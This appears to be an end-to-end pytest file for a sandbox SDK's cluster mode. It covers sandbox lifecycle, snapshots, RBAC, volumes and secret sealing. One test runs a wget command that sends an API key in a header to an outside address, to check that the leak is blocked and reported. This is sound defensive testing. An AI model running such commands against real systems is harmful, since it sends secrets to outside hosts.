"""The SDK's API in cluster mode, against a real apiserver, operator and node-agent."""

from __future__ import annotations

import asyncio
import dataclasses
import os

import pytest

from microsandbox import (
    Cluster,
    InvalidConfigError,
    PermissionDeniedError,
    Sandbox,
    SandboxAlreadyExistsError,
    SandboxFailedError,
    SandboxNotFoundError,
    SandboxNotRunningError,
    SchedulingError,
    StdoutEvent,
    Volume,
    VolumeNotFoundError,
    ExitedEvent,
    NetworkPolicy,
    Secret,
    Snapshot,
    set_mode,
)
from microsandbox import _native
from microsandbox.cluster import AgentAccess

IMAGE = "busybox"


async def _objects(c: Cluster) -> list[str]:
    conn = await _native.Cluster.connect(c.kubeconfig, c.context, c.namespace)
    return [o["metadata"]["name"] for o in await conn.objects()]


@pytest.mark.parametrize("access", ["direct", "proxy"])
async def test_create_exec_stream_fs_metrics_remove(dev: Cluster, access: AgentAccess) -> None:
    dev = dataclasses.replace(dev, agent_access=access)
    sb = await Sandbox.create(
        "py-basic", image=IMAGE, memory=64, isolation="container", cluster=dev,
        env={"GREETING": "hi"},
    )
    async with sb:
        # Direct: the node-agent's own address; proxy: a path on the API server.
        endpoint = sb._client.endpoint
        if access == "proxy":
            assert endpoint.startswith("https://127.0.0.1:"), endpoint
            assert "/api/v1/namespaces/" in endpoint and endpoint.endswith("/proxy"), endpoint
        else:
            assert endpoint.startswith("http://198.18."), endpoint
        assert sb.name == "py-basic"
        assert sb.info.running
        out = await sb.exec("sh", ["-c", "echo $GREETING from $(hostname)"])
        assert out.stdout().startswith("hi from py-basic-")
        assert out.exit_code == 0

        handle = await sb.exec_stream("sh", ["-c", "for i in 1 2 3; do echo $i; done; exit 3"])
        seen = b""
        code = None
        async for ev in handle.events():
            match ev:
                case StdoutEvent(data=data):
                    seen += data
                case ExitedEvent(code=c):
                    code = c
        assert seen == b"1\n2\n3\n" and code == 3

        await sb.fs.write("/tmp/f.txt", b"cluster bytes")
        assert await sb.fs.read("/tmp/f.txt") == b"cluster bytes"
        assert "f.txt" in [e.name for e in await sb.fs.list("/tmp")]

        m = await sb.metrics()
        assert m.memory_bytes > 0

        again = await Sandbox.get("py-basic", cluster=dev)
        assert (await again.exec("true")).exit_code == 0
        # list() shows the sandboxes as their node-agents know them.
        assert any(i.name.startswith("py-basic-") for i in await Sandbox.list(cluster=dev))
    # The context manager deleted the object and waited for it to go.
    assert "py-basic" not in await _objects(dev)
    with pytest.raises(SandboxNotFoundError):
        await Sandbox.get("py-basic", cluster=dev)


async def test_pause_resume_and_idle_suspension(dev: Cluster) -> None:
    sb = await Sandbox.create(
        "py-pause", image=IMAGE, memory=64, isolation="container", cluster=dev, idle_timeout=1,
    )
    async with sb:
        conn = await _native.Cluster.connect(dev.kubeconfig, dev.context, dev.namespace)
        obj = await conn.object("py-pause")
        assert obj["spec"]["lifetime"]["idleTimeout"] == "1s"
        # spec.paused: the node-agent freezes it, the operator reports phase Paused.
        assert (await sb.pause()).state == "paused"
        obj = await conn.object("py-pause")
        assert obj["spec"]["paused"] is True and obj["status"]["phase"] == "Paused"
        ready = [c for c in obj["status"]["conditions"] if c["type"] == "Ready"][0]
        assert (ready["status"], ready["reason"]) == ("False", "Paused")
        with pytest.raises(SandboxNotRunningError):
            await sb.exec("true")
        assert (await sb.resume()).state == "running"
        # Idle for its timeout: suspended on the node; the next command resumes it.
        for _ in range(50):
            await asyncio.sleep(0.1)
            if (await sb.refresh()).state == "suspended":
                break
        assert sb.info.state == "suspended"
        assert (await sb.exec("echo", ["awake"])).stdout() == "awake\n"


async def test_warm_pool_claim(dev: Cluster) -> None:
    # tests/e2e/tests/python_sdk.rs keeps SandboxWarmPool "py-pool" (busybox, one member).
    conn = await _native.Cluster.connect(dev.kubeconfig, dev.context, dev.namespace)
    for _ in range(100):
        members = [n for n in await _objects(dev) if n.startswith("py-pool-")]
        if members and (await Sandbox.get(members[0], cluster=dev)).info.state == "running":
            break
        await asyncio.sleep(0.1)
    async with await Sandbox.create(
        "py-claimed", image=IMAGE, pool="py-pool", cluster=dev
    ) as sb:
        # The member it took: now held by the claim, labelled warm.
        assert sb._object in members
        obj = await conn.object(sb._object)
        labels = obj["metadata"]["labels"]
        assert labels["microsandbox.dev/launch"] == "warm"
        assert labels["microsandbox.dev/claim"] == "py-claimed"
        owner = obj["metadata"]["ownerReferences"][0]
        assert (owner["kind"], owner["name"]) == ("SandboxClaim", "py-claimed")
        assert (await sb.exec("echo", ["warm"])).stdout() == "warm\n"
    # Leaving the block deleted the claim and its Sandbox.
    assert members[0] not in await _objects(dev)
    # The template allows no env from claims (envVarsInjectionPolicy Disallowed): typed, and
    # nothing is left behind.
    with pytest.raises(SandboxFailedError) as e:
        await Sandbox.create("py-claimed-env", image=IMAGE, pool="py-pool", env={"A": "1"},
                             cluster=dev)
    assert "EnvVarsInjectionRejected" in str(e.value)
    assert "py-claimed-env" not in await _objects(dev)


async def test_snapshot_and_a_sandbox_from_it(dev: Cluster) -> None:
    async with await Sandbox.create(
        "py-snapsrc", image=IMAGE, memory=64, isolation="container", cluster=dev
    ) as sb:
        await sb.exec("sh", ["-c", "echo from-py > /tmp/f"])
        # Taken while it runs (the node-agent pauses it for the copy and resumes it).
        snap = await sb.snapshot("py-snap")
        assert snap.image == "snapshot://py-snap" and snap.layers >= 2
        assert (await sb.refresh()).state == "running"
        async with await Sandbox.create(
            "py-fromsnap", image=snap.image, memory=64, isolation="container", cluster=dev
        ) as again:
            assert (await again.exec("cat", ["/tmp/f"])).stdout() == "from-py\n"
            conn = await _native.Cluster.connect(dev.kubeconfig, dev.context, dev.namespace)
            obj = await conn.object("py-fromsnap")
            assert obj["spec"]["snapshotRef"] == {"name": "py-snap"}
        # Pushed to a registry (anonymously: no secret=), it starts anywhere by reference.
        ref = f"127.0.0.1:5000/msb-e2e/py-snap:{dev.namespace}"
        assert await Snapshot.push("py-snap", ref, cluster=dev) == ref
        async with await Sandbox.create(
            "py-frompushed", image=ref, memory=64, isolation="container", cluster=dev
        ) as pulled:
            assert (await pulled.exec("cat", ["/tmp/f"])).stdout() == "from-py\n"
    assert [s.name for s in await Snapshot.list(cluster=dev)] == ["py-snap"]
    await Snapshot.remove("py-snap", cluster=dev)
    quick = Cluster(kubeconfig=dev.kubeconfig, namespace=dev.namespace, ready_timeout=4)
    with pytest.raises(SchedulingError) as e:
        await Sandbox.create("py-nosnap", image="snapshot://nope", memory=64,
                             isolation="container", cluster=quick)
    assert e.value.reason == "SnapshotNotFound"
    assert "py-nosnap" not in await _objects(dev)


async def test_rbac_denial_is_typed(viewer: Cluster) -> None:
    with pytest.raises(PermissionDeniedError) as e:
        await Sandbox.create("py-denied", image=IMAGE, memory=64, isolation="container",
                             cluster=viewer)
    assert "sandboxes" in str(e.value)


async def test_agent_access_is_checked_on_both_paths(dev: Cluster, viewer: Cluster) -> None:
    # viewer may read Sandbox objects, but neither exec into them (the agent asks RBAC) nor use
    # the API server's pod proxy to the agents (the API server refuses).
    async with await Sandbox.create("py-guarded", image=IMAGE, memory=64,
                                    isolation="container", cluster=dev):
        direct = dataclasses.replace(viewer, agent_access="direct")
        with pytest.raises(PermissionDeniedError) as e:
            await Sandbox.get("py-guarded", cluster=direct)
        assert "sandboxes/exec" in str(e.value), e.value
        proxied = dataclasses.replace(viewer, agent_access="proxy")
        with pytest.raises(PermissionDeniedError) as e:
            await Sandbox.get("py-guarded", cluster=proxied)
        assert "pods/proxy" in str(e.value), e.value


async def test_scheduling_failure_carries_the_reason(dev: Cluster, node_slots: int) -> None:
    quick = Cluster(kubeconfig=dev.kubeconfig, namespace=dev.namespace, ready_timeout=8)
    # microvm isolation is not offered by the test node: Pending with the scheduler's reason.
    with pytest.raises(SchedulingError) as e:
        await Sandbox.create("py-unschedulable", image=IMAGE, memory=64, isolation="microvm",
                             cluster=quick)
    assert e.value.reason == "Unschedulable"
    assert "no microvm isolation" in str(e.value)
    # Nothing left behind.
    assert "py-unschedulable" not in await _objects(dev)


async def test_two_clients_race_on_one_name(dev: Cluster) -> None:
    async def one() -> Sandbox:
        return await Sandbox.create("py-race", image=IMAGE, memory=64, isolation="container",
                                    cluster=dev)

    results = await asyncio.gather(one(), one(), return_exceptions=True)
    winners = [r for r in results if isinstance(r, Sandbox)]
    losers = [r for r in results if isinstance(r, BaseException)]
    assert len(winners) == 1, results
    assert len(losers) == 1 and isinstance(losers[0], SandboxAlreadyExistsError), results
    # The loser did not delete the winner's object.
    assert (await winners[0].exec("true")).exit_code == 0
    await winners[0].destroy()
    assert "py-race" not in await _objects(dev)


async def test_cancelled_create_cleans_up(dev: Cluster) -> None:
    slow = Cluster(kubeconfig=dev.kubeconfig, namespace=dev.namespace, ready_timeout=60)
    task = asyncio.create_task(
        # Unschedulable (microvm), so it would wait the whole minute.
        Sandbox.create("py-cancel", image=IMAGE, memory=64, isolation="microvm", cluster=slow)
    )
    for _ in range(100):
        if "py-cancel" in await _objects(dev):
            break
        await asyncio.sleep(0.05)
    assert "py-cancel" in await _objects(dev)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    for _ in range(100):
        if "py-cancel" not in await _objects(dev):
            break
        await asyncio.sleep(0.1)
    assert "py-cancel" not in await _objects(dev)


async def test_mode_from_set_mode_and_environment(dev: Cluster) -> None:
    set_mode(dev)
    try:
        async with await Sandbox.create("py-mode", image=IMAGE, memory=64,
                                        isolation="container") as sb:
            assert sb.name == "py-mode"
    finally:
        set_mode(None)
    os.environ["MICROSANDBOX_MODE"] = "bogus"
    try:
        from microsandbox import InvalidConfigError

        with pytest.raises(InvalidConfigError):
            await Sandbox.list()
    finally:
        del os.environ["MICROSANDBOX_MODE"]


async def test_volume_lifecycle(dev: Cluster) -> None:
    info = await Volume.create("py-data", quota=16, cluster=dev)
    assert (info.name, info.quota_mib, info.node) == ("py-data", 16, "n1")
    assert "py-data" in [v.name for v in await Volume.list(cluster=dev)]
    async with await Sandbox.create(
        "py-vol", image=IMAGE, memory=64, isolation="container", cluster=dev,
        volumes={"/data": Volume.named("py-data")},
    ) as sb:
        await sb.fs.write("/data/kept.txt", b"survives")
    # It may grow (its node-agent grows the data), never shrink (the CRD refuses).
    assert (await Volume.resize("py-data", quota=32, cluster=dev)).quota_mib == 32
    with pytest.raises(InvalidConfigError):
        await Volume.resize("py-data", quota=8, cluster=dev)
    # A new sandbox on the same volume sees what the first one wrote.
    async with await Sandbox.create(
        "py-vol2", image=IMAGE, memory=64, isolation="container", cluster=dev,
        volumes={"/data": Volume.named("py-data", readonly=True)},
    ) as sb:
        assert await sb.fs.read("/data/kept.txt") == b"survives"
    await Volume.remove("py-data", cluster=dev)
    with pytest.raises(VolumeNotFoundError):
        await Volume.get("py-data", cluster=dev)


async def test_unplaceable_volume_is_a_scheduling_error_and_cleaned_up(dev: Cluster) -> None:
    quick = dataclasses.replace(dev, ready_timeout=5)
    with pytest.raises(SchedulingError) as e:
        await Volume.create(
            "py-nowhere", quota=16, node_selector={"zone": "nowhere"}, cluster=quick
        )
    assert "none with labels {zone=nowhere}" in str(e.value), e.value
    assert "py-nowhere" not in [v.name for v in await Volume.list(cluster=dev)]


async def test_secret_is_only_a_placeholder_in_the_sandbox(dev: Cluster) -> None:
    value = "sk-py-cluster-" + os.urandom(8).hex()
    sb = await Sandbox.create(
        "py-secret", image=IMAGE, memory=64, isolation="container", cluster=dev,
        network=NetworkPolicy.public_only(),
        secrets=[Secret.env("API_KEY", value=value, allow_hosts=["api.example.com"])],
    )
    async with sb:
        # The operator sealed the value to the node; the guest has a placeholder, which the
        # node-agent's proxy knows: sent over plain HTTP it is blocked and reported.
        out = await sb.exec(
            "sh",
            [
                "-c",
                'echo $API_KEY; wget -O- --header "X-Key: $API_KEY" http://203.0.113.9/ 2>&1; env',
            ],
        )
        assert value not in out.stdout() + out.stderr()
        assert out.stdout().startswith("msb-secret-api-key-"), out.stdout()
        seen = [(v.secret, v.host) for v in await sb.secret_violations()]
        assert seen == [("API_KEY", "203.0.113.9")]
        assert [(v.secret, v.host) for v in out.secret_violations] == seen
        conn = await _native.Cluster.connect(dev.kubeconfig, dev.context, dev.namespace)
        obj = await conn.object("py-secret")
        assert obj["spec"]["secrets"] == [{"name": "py-secret-api-key", "env": "API_KEY"}]
        assert obj["status"]["sealedSecrets"]["recipient"]
        assert value not in str(obj)
